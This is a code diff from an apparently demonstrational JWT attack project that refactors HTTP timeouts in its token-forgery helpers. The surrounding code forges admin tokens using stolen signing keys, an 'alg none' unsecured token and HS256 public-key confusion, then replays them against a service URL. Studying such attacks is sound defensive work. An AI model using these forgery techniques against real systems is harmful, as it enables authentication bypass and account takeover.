@@ -1,4 +1,5 @@
 import { DEFAULT_ISSUER, type AppName, type JsonWebKeySet } from '@jwt-blast-radius/keys';
+import { fetchWithin } from '@jwt-blast-radius/service-kit/process';
 import { accessTokenClaims, signWithJwk, signWithPublicKeyAsSecret, unsecuredToken } from '@jwt-blast-radius/keys/testing';
 import { signingKeysIn, type Loot } from './loot';
 import { FORGED_IDENTITY, HARVESTED_USER } from './targets';
@@ -20,11 +21,12 @@ export interface Forgery {
 export async function forgeAdminTokens(loot: Loot, target: AppName, published: JsonWebKeySet | undefined): Promise<Forgery[]> {
   const claims = accessTokenClaims({ iss: loot.env.ISSUER ?? DEFAULT_ISSUER, aud: target, ...FORGED_IDENTITY, roles: [...FORGED_IDENTITY.roles] });
   const forgeries: Forgery[] = [];
-  for (const jwk of signingKeysIn(loot)) {
+  const stolen = signingKeysIn(loot);
+  for (const jwk of stolen) {
     forgeries.push({ via: `key ${jwk.kid ?? '(no kid)'}`, token: await signWithJwk(jwk, claims) });
   }
   const publicKeys = published?.keys ?? [];
-  forgeries.push({ via: 'alg none', token: unsecuredToken(claims, { kid: publicKeys[0]?.kid ?? forgeries[0]?.via }) });
+  forgeries.push({ via: 'alg none', token: unsecuredToken(claims, { kid: publicKeys[0]?.kid ?? stolen[0]?.kid }) });
   for (const jwk of publicKeys) {
     forgeries.push({ via: `HS256 with public key ${jwk.kid ?? ''}`.trim(), token: await signWithPublicKeyAsSecret(jwk, claims) });
   }
@@ -47,8 +49,7 @@ export interface Answer {
 export async function tryTokens(url: string, tokens: readonly Forgery[]): Promise<Answer> {
   let first: Answer | undefined;
   for (const { via, token } of tokens) {
-    const response = await fetch(url, { headers: { authorization: `Bearer ${token}` }, signal: AbortSignal.timeout(10_000) });
-    await response.arrayBuffer();
+    const response = await fetchWithin(10_000, url, { headers: { authorization: `Bearer ${token}` } });
     const answer = { status: response.status, accepted: response.ok, via };
     if (answer.accepted) return answer;
     first ??= answer;
@@ -63,11 +64,10 @@ export async function tryTokens(url: string, tokens: readonly Forgery[]): Promis
  * const token = await harvestToken('http://127.0.0.1:3000', 'dashboard-api');
  */
 export async function harvestToken(authUrl: string, audience: AppName): Promise<string> {
-  const response = await fetch(`${authUrl}/auth/login`, {
+  const response = await fetchWithin(10_000, `${authUrl}/auth/login`, {
     method: 'POST',
     headers: { 'content-type': 'application/json' },
     body: JSON.stringify({ ...HARVESTED_USER, audience }),
-    signal: AbortSignal.timeout(10_000),
   });
   if (!response.ok) throw new Error(`login for ${audience} answered ${response.status}`);
   return ((await response.json()) as { access_token: string }).access_token;
@@ -75,6 +75,6 @@ export async function harvestToken(authUrl: string, audience: AppName): Promise<
 
 /** The issuer's published JWKS, or undefined where the mode publishes none (a 404). */
 export async function fetchPublishedJwks(authUrl: string): Promise<JsonWebKeySet | undefined> {
-  const response = await fetch(`${authUrl}/.well-known/jwks.json`, { signal: AbortSignal.timeout(10_000) });
+  const response = await fetchWithin(10_000, `${authUrl}/.well-known/jwks.json`);
   return response.ok ? ((await response.json()) as JsonWebKeySet) : undefined;
 }
